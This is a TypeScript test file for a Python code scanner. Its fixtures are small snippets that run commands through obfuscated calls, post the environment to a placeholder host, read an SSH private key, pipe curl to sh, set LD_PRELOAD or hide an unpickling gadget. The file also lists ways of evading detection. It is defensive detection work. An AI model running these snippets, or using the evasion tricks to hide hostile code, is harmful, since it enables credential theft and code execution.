import t from 'tap';
import { createBudget } from '../../src/bytes/limits.ts';
import { analysePython } from '../../src/content/python/analyse.ts';
import { looksLikePython } from '../../src/content/python/recognise.ts';
import { SEVERITIES } from '../../src/formats/format.ts';

const analyse = (source: string) => {
  const { remarks, understood } = analysePython(source, createBudget());
  const rank = Math.max(0, ...remarks.map(({ severity }) => SEVERITIES.indexOf(severity)));
  return { worst: SEVERITIES[rank], understood, said: remarks.map(({ message }) => message).join('; ') };
};

const AT_IMPORT: Readonly<Record<string, string>> = {
  plain: "import os\nos.system('x')\n",
  'module alias': "import os as o\no.system('x')\n",
  'function alias': "from os import system as s\ns('x')\n",
  'assigned alias': "import os\nf = os.system\nf('x')\n",
  'star import': "from os import *\nsystem('x')\n",
  'getattr with a name in two parts': "import os\ngetattr(os, 'sys' + 'tem')('x')\n",
  'getattr with a joined name': "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')\n",
  'getattr with a reversed name': "import os\ngetattr(os, 'metsys'[::-1])('x')\n",
  'getattr with characters': "import os\ngetattr(os, chr(115) + 'ystem')('x')\n",
  'getattr with an unknown name': 'import os\ngetattr(os, name)("x")\n',
  'escaped name': "import os\ngetattr(os, '\\x73ystem')('x')\n",
  __import__: "__import__('os').system('x')\n",
  import_module: "import importlib\nimportlib.import_module('subprocess').run(['x'])\n",
  builtins: "import builtins\nbuiltins.exec('x')\n",
  'builtins by item': "__builtins__['eval']('x')\n",
  'globals by item': "globals()['eval']('x')\n",
  'module dict': "import os\nos.__dict__['system']('x')\n",
  'sys.modules': "import sys\nsys.modules['os'].system('x')\n",
  'base64 and exec': "import base64\nexec(base64.b64decode('eA=='))\n",
  subprocess: "import subprocess\nsubprocess.Popen(['x'])\n",
  socket: 'import socket\ns = socket.socket()\n',
  ctypes: "import ctypes\nctypes.CDLL('x.so')\n",
  unpickle: 'import pickle\npickle.loads(data)\n',
  'in a class body': "import os\nclass A:\n    os.system('x')\n",
  'in an if': "import os\nif True:\n    os.system('x')\n",
  'in a try on one line': "import os\ntry: os.system('x')\nexcept Exception: pass\n",
  'behind a semicolon': "import os; os.system('x')\n",
  'as an argument': "import os\nprint(1, os.system('x'))\n",
  'in an f-string': 'import os\nprint(f"{os.system(\'x\')}")\n',
  'in a decorator': "import os\n@os.system('x')\ndef f(): pass\n",
  'in a lambda that is called': "import os\n(lambda: os.system('x'))()\n",
  'in a comprehension': "import os\n[os.system(c) for c in ['x']]\n",
  'in a function that is called': "import os\ndef f():\n    os.system('x')\nf()\n",
  'in a function called by another': "import os\ndef f():\n    os.system('x')\ndef g():\n    f()\ng()\n",
  'in a constructor of a class that is made':
    "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()\n",
  'line continued': "import os\nos. \\\n  system('x')\n",
  'full-width letters': "import os\nｏｓ.ｓｙｓｔｅｍ('x')\n",
  'tabs for indentation': "import os\nif 1:\n\tos.system('x')\n",
  'environment sent': "import os, requests\nrequests.post('http://x.invalid', json=dict(os.environ))\n",
  exec_family: "import os\nos.execvp('sh', ['sh'])\n",
  'carriage returns for lines': "import os\ros.system('x')\r",
  'behind a comment and a carriage return': "import os\n# note\ros.system('x')\n",
  'in a list only': "[__import__('os').system('x')]\n",
  'in an operator only': "1 + __import__('os').system('x')\n",
  'declared encoding': '# -*- coding: utf-7 -*-\nimport os\n',
  'strings side by side': 'import os\nx = f"{1}" "abc" \\\n  f"{os.system(1)}"\n',
  'python 2': "import os\nprint 'hello'\nos.system('x')\n",
};

t.test('what runs when the module is imported is a finding of high severity', async (t) => {
  for (const [name, source] of Object.entries(AT_IMPORT)) {
    const { worst, said } = analyse(source);
    t.equal(worst, 'high', `${name}: ${said}`);
    t.equal(looksLikePython(source, false), true, `${name} is recognised as Python`);
  }
});

const HIDDEN: Readonly<Record<string, string>> = {
  'module in a list': "import os\nx = [os]\nx[0].system('x')\n",
  'module as an argument': "import os\n(lambda m: m.system('x'))(os)\n",
  'module in a loop': "import os\nfor m in (os,):\n    m.system('x')\n",
  'module in a tuple assignment': "import os\na, b = os, 1\na.system('x')\n",
  'module in a chain of assignments': "import os\na = b = os\nb.system('x')\n",
  'module dict with an unknown key': "import os\ndict(os.__dict__)[k]('x')\n",
  'builtin as a default': "def f(g=exec):\n    g('x')\nf()\n",
  'builtin as a decorator': '@exec\ndef f(): pass\n',
  'builtin in a table': "{'a': exec}['a']('x')\n",
  'builtin in a condition': "(exec if 1 else None)('x')\n",
  'internals by getattr': "getattr(getattr((), '__class__'), '__sub' + 'classes__')()\n",
  'credentials read': "x = open('/home/u/.ssh/id_rsa').read()\n",
  'loader of the machine': "import os\nos.environ['LD_PRELOAD'] = '/x.so'\n",
  'import hook': 'import sys\nsys.meta_path.insert(0, f)\n',
  'function for the unpickler': "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('x',)\n",
};

t.test('what is only named so that something else calls it is a finding of medium severity', async (t) => {
  for (const [name, source] of Object.entries(HIDDEN))
    t.equal(analyse(source).worst, 'medium', `${name}: ${analyse(source).said}`);
});

const THROUGH_OTHERS: Readonly<Record<string, string>> = {
  'through a module that imports it': "import shutil\nshutil.os.system('x')\n",
  'through a private name': "import tempfile\ntempfile._os.system('x')\n",
  'imported from another module': "from random import _os\n_os.system('x')\n",
  'through sys.modules of another': "import torch\ntorch.sys.modules['os'].system('x')\n",
  'sys.modules by get': "import sys\nsys.modules.get('os').system('x')\n",
  'module dict by get': "import os\nvars(os).get('system')('x')\n",
  __getattribute__: "import os\nos.__getattribute__('system')('x')\n",
  __call__: "exec.__call__('x')\n",
  'builtins dict': "__builtins__.__dict__['exec']('x')\n",
  'native library of torch': "import torch\ntorch.ops.load_library('x.so')\n",
  'native library of SQLite': "import sqlite3\nc = sqlite3.connect('x')\nc.load_extension('x')\n",
  'line magic': "from IPython import get_ipython\nget_ipython().run_line_magic('system', 'x')\n",
  'connection as standard input': 'import os\ndef f(s):\n    os.dup2(s.fileno(), 0)\n',
  'environment sent in a function':
    'import os\nasync def f(session):\n    await session.post(URL, json=dict(os.environ))\n',
  'copy of the environment sent':
    'import os, requests\ndef f():\n    e = dict(os.environ)\n    requests.post(URL, json=e)\n',
};

t.test('what is reached through something else is a finding of high severity', async (t) => {
  for (const [name, source] of Object.entries(THROUGH_OTHERS))
    t.equal(analyse(source).worst, 'high', `${name}: ${analyse(source).said}`);
});

const HONEST: Readonly<Record<string, string>> = {
  'a token in the headers':
    'import os, requests\ndef f():\n    return requests.post(URL, headers={"A": os.environ["API_KEY"]}, json={})\n',
  'a model beside the code': "import joblib\nmodel = joblib.load('model.joblib')\n",
  'a file of scores': "import pickle\ndef f(path):\n    return pickle.load(open(path, 'rb'))\n",
  'modules looked at': "import os, sys\nif hasattr(os, 'fork') and getattr(os, 'O_BINARY', 0): pass\n",
  'eval as a flag': 'def f(eval=True):\n    if eval:\n        return 1\n',
  'a method that nobody calls':
    'import requests\nclass A:\n    def build(self):\n        return 1\n    def fetch(self):\n        return requests.get(URL)\nA().build()\n',
};

t.test('what honest code does is at most of low severity', async (t) => {
  for (const [name, source] of Object.entries(HONEST))
    t.ok(['info', 'low'].includes(String(analyse(source).worst)), `${name}: ${analyse(source).said}`);
});

const WAITING: Readonly<Record<string, string>> = {
  'in a function': "import os\ndef f():\n    os.system('x')\n",
  'in a method': "import subprocess\nclass A:\n    def run(self):\n        subprocess.run(['x'])\n",
  'under main': "import os\nif __name__ == '__main__':\n    os.system('x')\n",
  'in a one-line function': "import os\ndef f(): os.system('x')\n",
  'in parentheses': "import os\n(os.system)('x')\n",
  'in a map': "import os\nlist(map(os.system, ['x']))\n",
  'in a table': "import os\n{'a': os.system}['a']('x')\n",
  'in a class attribute': "import os\nclass A:\n    f = os.system\nA.f('x')\n",
  'builtin in a map': "list(map(eval, ['x']))\n",
  'subclass walk': 'x = ().__class__.__base__.__subclasses__()\n',
};

t.test('what waits to be called is a finding of medium severity', async (t) => {
  for (const [name, source] of Object.entries(WAITING))
    t.equal(analyse(source).worst, 'medium', `${name}: ${analyse(source).said}`);
});

const MODEL = `# coding=utf-8
"""A model in the manner of many repositories."""
import math
import os
from typing import List, Optional, Tuple, Union

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from .configuration_x import XConfig

os.environ["TOKENIZERS_PARALLELISM"] = "false"
logger = __import__  # never called
_CHECKPOINT = "x/y"
code = [1, 2]
code.append(3)

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None


class XModel(PreTrainedModel):
    config_class = XConfig

    def __init__(self, config: XConfig):
        super().__init__(config)
        self.scale = nn.Parameter(torch.ones(config.hidden_size))
        self.layers = nn.ModuleList([nn.Linear(4, 4) for _ in range(config.num_layers)])
        self.compile = torch.compile

    @torch.no_grad()
    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> Tuple[torch.Tensor, ...]:
        x = F.gelu(x) * math.sqrt(2.0) if mask is None else x @ mask.T
        self.eval()
        message = f"shape {x.shape!r} and {getattr(self.config, 'name', None):>10}"
        value = getattr(self, "_" + message)
        return (x, value)

    def open(self, path, mode="r"):
        return path


model = XModel(XConfig())
model.eval()
pattern = __builtins__
`;

t.test('a model written honestly is quiet', async (t) => {
  t.same(analyse(MODEL.replace('pattern = __builtins__\n', '')), { worst: 'info', understood: true, said: '' });
  t.equal(looksLikePython(MODEL, false), true);
});

t.test('prose, data and other languages are no Python', async (t) => {
  const others: Readonly<Record<string, string>> = {
    prose: 'This is a model.\nIt was trained on text.\n',
    readme: '---\nlicense: mit\n---\n# Model\n\n```python\nimport os\n```\nUse it.\n',
    requirements: 'torch>=2.0\ntransformers==4.40.0\n# os.system is not used\n',
    vocabulary: 'hello\nworld\n##ing\n',
    yaml: 'model:\n  _target_: os.system\n  command: x\n',
    csv: 'a,b,c\n1,2,3\n4,5,6\n',
    shell: 'set -e\ncurl -s http://x.invalid | sh\n',
    json: '{"a": [1, 2]}\n',
    dockerfile: 'FROM python:3\nRUN pip install x\n',
    merges: '#version: 0.2\nt h\nh e\n',
  };
  for (const [name, text] of Object.entries(others)) t.equal(looksLikePython(text, false), false, name);
});

t.test('source that cannot be read is not understood', async (t) => {
  for (const source of ["x = 'abc\n", 'f(\n', 'x = ]\n', 'x = """abc']) {
    const { understood, worst } = analyse(source);
    t.equal(understood, false);
    t.equal(worst, 'medium');
  }
});

t.test('deep nesting ends with a limit, long input in linear time', async (t) => {
  t.throws(() => analyse('('.repeat(1000)), { code: 'LIMIT_EXCEEDED' });
  const start = process.hrtime.bigint();
  analyse(`import os\n${'x = a.b(c, d[1])\n'.repeat(30_000)}`);
  analyse(`x = ${'a('.repeat(150)}${'1,'.repeat(50_000)}${')'.repeat(150)}\n`);
  analyse('x = x.a.b\n'.repeat(30_000));
  analyse(`x = f(${'eval(1), '.repeat(30_000)})\n`);
  t.ok(process.hrtime.bigint() - start < 8_000_000_000n);
});
